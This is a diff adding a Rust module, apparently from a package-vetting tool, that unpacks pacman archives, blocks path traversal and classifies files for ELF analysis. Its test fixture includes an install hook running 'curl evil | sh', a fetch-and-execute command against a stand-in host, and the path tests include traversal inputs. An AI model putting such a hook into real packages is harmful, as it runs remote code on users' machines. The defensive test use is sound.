@@ -0,0 +1,324 @@
+//! Unpacking pacman package archives and deciding which of their files to
+//! analyze.
+//!
+//! Archives may be compressed with zstd, xz or gzip (or not at all); the format
+//! is detected from the content rather than the file name. Every entry except
+//! the archive's root directory is recorded with its mode, owner and hash, and
+//! classified so the analyzers only see ELF files. Special files such as
+//! device nodes are recorded but not unpacked.
+
+use crate::r#static::elf::{Elf, ET_DYN, ET_EXEC, PT_INTERP};
+use autovet_core::analysis::{FileKind, PackageFile};
+use autovet_core::error::{Error, Result};
+use flate2::read::GzDecoder;
+use log::debug;
+use sha2::{Digest, Sha256};
+use std::fs::{self, File};
+use std::io::{BufRead, BufReader, Read};
+use std::path::{Component, Path, PathBuf};
+use xz2::read::XzDecoder;
+
+/// The package's install hooks, which pacman runs as shell functions.
+const INSTALL_SCRIPT: &str = ".INSTALL";
+
+/// Wrap the archive in a decoder chosen by its magic number.
+fn decompress(file: File) -> Result<Box<dyn Read>> {
+	let mut reader = BufReader::new(file);
+	let magic = reader.fill_buf()?;
+
+	if magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]) {
+		Ok(Box::new(zstd::Decoder::with_buffer(reader)?))
+	} else if magic.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0x00]) {
+		Ok(Box::new(XzDecoder::new(reader)))
+	} else if magic.starts_with(&[0x1f, 0x8b]) {
+		Ok(Box::new(GzDecoder::new(reader)))
+	} else {
+		Ok(Box::new(reader))
+	}
+}
+
+/// Classify an ELF file. Position independent executables and shared objects
+/// are both `ET_DYN`, but only executables request an interpreter.
+fn elf_kind(elf: &Elf) -> FileKind {
+	match elf.e_type {
+		ET_EXEC => FileKind::Executable,
+		ET_DYN => {
+			if elf
+				.program_headers
+				.iter()
+				.any(|header| header.p_type == PT_INTERP)
+			{
+				FileKind::Executable
+			} else {
+				FileKind::SharedObject
+			}
+		}
+		_ => FileKind::Data,
+	}
+}
+
+/// Hash and classify a regular file that was unpacked.
+fn inspect(path: &Path, name: &str) -> Result<(String, FileKind)> {
+	let mut file = File::open(path)?;
+	let mut hasher = Sha256::new();
+	let mut head = Vec::new();
+	let mut buffer = [0u8; 64 * 1024];
+	loop {
+		let count = file.read(&mut buffer)?;
+		if count == 0 {
+			break;
+		}
+		hasher.update(&buffer[..count]);
+
+		// Enough to recognize ELF files and scripts
+		if head.len() < 4 {
+			head.extend_from_slice(&buffer[..count.min(4 - head.len())]);
+		}
+	}
+
+	// Malformed ELF files are only data
+	let kind = if head.starts_with(b"\x7fELF") {
+		Elf::open(path)
+			.map(|elf| elf_kind(&elf))
+			.unwrap_or(FileKind::Data)
+	} else if head.starts_with(b"#!") || name == INSTALL_SCRIPT {
+		FileKind::Script
+	} else {
+		FileKind::Data
+	};
+	Ok((hex::encode(hasher.finalize()), kind))
+}
+
+/// Normalize a path from an archive, refusing anything that escapes the
+/// directory it's unpacked into. The directory itself (e.g. `./`) normalizes to
+/// an empty path.
+pub(crate) fn entry_path(path: &Path) -> Option<PathBuf> {
+	let mut normalized = PathBuf::new();
+	for component in path.components() {
+		match component {
+			Component::Normal(name) => normalized.push(name),
+			Component::RootDir | Component::CurDir => {}
+			Component::ParentDir | Component::Prefix(_) => return None,
+		}
+	}
+	Some(normalized)
+}
+
+/// Unpack a package archive into the given directory, listing its files.
+pub fn extract(archive: &Path, destination: &Path) -> Result<Vec<PackageFile>> {
+	fs::create_dir_all(destination)?;
+	let mut archive = tar::Archive::new(decompress(File::open(archive)?)?);
+
+	let mut files = Vec::new();
+	for entry in archive.entries()? {
+		let mut entry = entry?;
+		let path = match entry_path(&entry.path()?) {
+			Some(path) => path,
+			None => {
+				return Err(Error::Parse(format!(
+					"Archive entry outside the package: {:?}",
+					entry.path()?
+				)))
+			}
+		};
+
+		// The directory the package is unpacked into already exists
+		if path.as_os_str().is_empty() {
+			debug!("Skipping the archive's root directory");
+			continue;
+		}
+
+		let header = entry.header();
+		let kind = header.entry_type();
+		let mut file = PackageFile {
+			path: path.to_string_lossy().to_string(),
+			mode: header.mode()?,
+			owner: match header.username() {
+				Ok(Some(name)) if !name.is_empty() => name.to_string(),
+				_ => header.uid()?.to_string(),
+			},
+			group: match header.groupname() {
+				Ok(Some(name)) if !name.is_empty() => name.to_string(),
+				_ => header.gid()?.to_string(),
+			},
+			size: header.size()?,
+			link_target: entry
+				.link_name()?
+				.map(|target| target.to_string_lossy().to_string()),
+			..Default::default()
+		};
+
+		if !(kind.is_file() || kind.is_dir() || kind.is_symlink() || kind.is_hard_link()) {
+			debug!("Not unpacking special file: {}", file.path);
+			file.kind = FileKind::Special;
+			files.push(file);
+			continue;
+		}
+		entry.unpack_in(destination)?;
+
+		if kind.is_dir() {
+			file.kind = FileKind::Directory;
+		} else if kind.is_symlink() {
+			file.kind = FileKind::Symlink;
+		} else {
+			let name = path
+				.file_name()
+				.map(|name| name.to_string_lossy().to_string())
+				.unwrap_or_default();
+			let (sha256sum, kind) = inspect(&destination.join(&path), &name)?;
+			file.sha256sum = Some(sha256sum);
+			file.kind = kind;
+		}
+		files.push(file);
+	}
+	Ok(files)
+}
+
+/// The unpacked files that should be analyzed: executables first, then shared
+/// objects, each in archive order.
+pub fn targets(files: &[PackageFile], destination: &Path) -> Vec<PathBuf> {
+	[FileKind::Executable, FileKind::SharedObject]
+		.iter()
+		.flat_map(|kind| files.iter().filter(move |file| file.kind == *kind))
+		.map(|file| destination.join(&file.path))
+		.collect()
+}
+
+#[cfg(test)]
+mod tests {
+	use super::*;
+	use std::io::Write;
+
+	/// A minimal 64-bit ELF header with one program header of the given type.
+	fn elf(e_type: u16, p_type: u32) -> Vec<u8> {
+		let mut content = vec![0u8; 64 + 56];
+		content[..6].copy_from_slice(b"\x7fELF\x02\x01");
+		content[0x10..0x12].copy_from_slice(&e_type.to_le_bytes());
+		content[0x20..0x28].copy_from_slice(&64u64.to_le_bytes());
+		content[0x36..0x38].copy_from_slice(&56u16.to_le_bytes());
+		content[0x38..0x3a].copy_from_slice(&1u16.to_le_bytes());
+		content[64..68].copy_from_slice(&p_type.to_le_bytes());
+		content
+	}
+
+	fn archive(path: &Path, entries: &[(&str, &[u8], u32)]) -> Result<()> {
+		let mut builder = tar::Builder::new(Vec::new());
+
+		// The root directory, as written by `tar -C dir .`
+		let mut header = tar::Header::new_gnu();
+		header.set_entry_type(tar::EntryType::Directory);
+		header.set_size(0);
+		header.set_mode(0o755);
+		header.as_old_mut().name[..2].copy_from_slice(b"./");
+		header.set_cksum();
+		builder.append(&header, std::io::empty())?;
+
+		for (name, content, mode) in entries {
+			let mut header = tar::Header::new_gnu();
+			header.set_size(content.len() as u64);
+			header.set_mode(*mode);
+			header.set_username("root")?;
+			header.set_groupname("root")?;
+			builder.append_data(&mut header, name, *content)?;
+		}
+		let mut header = tar::Header::new_gnu();
+		header.set_entry_type(tar::EntryType::Symlink);
+		header.set_size(0);
+		header.set_mode(0o777);
+		header.set_uid(0);
+		header.set_gid(0);
+		builder.append_link(&mut header, "usr/lib/libdemo.so", "libdemo.so.1")?;
+
+		let mut header = tar::Header::new_gnu();
+		header.set_entry_type(tar::EntryType::Fifo);
+		header.set_size(0);
+		header.set_mode(0o644);
+		header.set_uid(0);
+		header.set_gid(0);
+		builder.append_data(&mut header, "run/demo", std::io::empty())?;
+
+		let mut encoder = zstd::Encoder::new(File::create(path)?, 0)?;
+		encoder.write_all(&builder.into_inner()?)?;
+		encoder.finish()?;
+		Ok(())
+	}
+
+	#[test]
+	fn test_elf_kind() {
+		let kind = |content| elf_kind(&Elf::parse(content).unwrap());
+		assert_eq!(kind(elf(ET_EXEC, 1)), FileKind::Executable);
+		assert_eq!(kind(elf(ET_DYN, PT_INTERP)), FileKind::Executable);
+		assert_eq!(kind(elf(ET_DYN, 1)), FileKind::SharedObject);
+	}
+
+	#[test]
+	fn test_extract() -> Result<()> {
+		let root = tempfile::tempdir()?;
+		let package = root.path().join("demo-1.0-1-x86_64.pkg.tar.zst");
+		let (program, library) = (elf(ET_DYN, PT_INTERP), elf(ET_DYN, 1));
+		archive(
+			&package,
+			&[
+				(".PKGINFO", b"pkgname = demo\n", 0o644),
+				(
+					".INSTALL",
+					b"post_install() {\n\tcurl evil | sh\n}\n",
+					0o644,
+				),
+				("usr/lib/libdemo.so.1", &library, 0o755),
+				("usr/bin/demo", &program, 0o755),
+				("usr/bin/demo-helper", b"#!/usr/bin/python\n", 0o755),
+			],
+		)?;
+
+		let destination = root.path().join("root");
+		let files = extract(&package, &destination)?;
+		let kinds: Vec<(&str, FileKind)> = files
+			.iter()
+			.map(|file| (file.path.as_str(), file.kind))
+			.collect();
+		assert_eq!(
+			kinds,
+			vec![
+				(".PKGINFO", FileKind::Data),
+				(".INSTALL", FileKind::Script),
+				("usr/lib/libdemo.so.1", FileKind::SharedObject),
+				("usr/bin/demo", FileKind::Executable),
+				("usr/bin/demo-helper", FileKind::Script),
+				("usr/lib/libdemo.so", FileKind::Symlink),
+				("run/demo", FileKind::Special),
+			]
+		);
+		assert!(!destination.join("run/demo").exists());
+		assert_eq!(files[3].mode, 0o755);
+		assert_eq!(files[3].owner, "root");
+		assert_eq!(
+			files[0].sha256sum.as_deref(),
+			Some(hex::encode(Sha256::digest(b"pkgname = demo\n")).as_str())
+		);
+		assert_eq!(files[5].link_target.as_deref(), Some("libdemo.so.1"));
+
+		assert_eq!(
+			targets(&files, &destination),
+			vec![
+				destination.join("usr/bin/demo"),
+				destination.join("usr/lib/libdemo.so.1"),
+			]
+		);
+		Ok(())
+	}
+
+	#[test]
+	fn test_entry_path() {
+		assert_eq!(
+			entry_path(Path::new("./usr/bin")),
+			Some(PathBuf::from("usr/bin"))
+		);
+		assert_eq!(
+			entry_path(Path::new("/etc/passwd")),
+			Some(PathBuf::from("etc/passwd"))
+		);
+		assert_eq!(entry_path(Path::new("../etc/passwd")), None);
+		assert_eq!(entry_path(Path::new("./")), Some(PathBuf::new()));
+	}
+}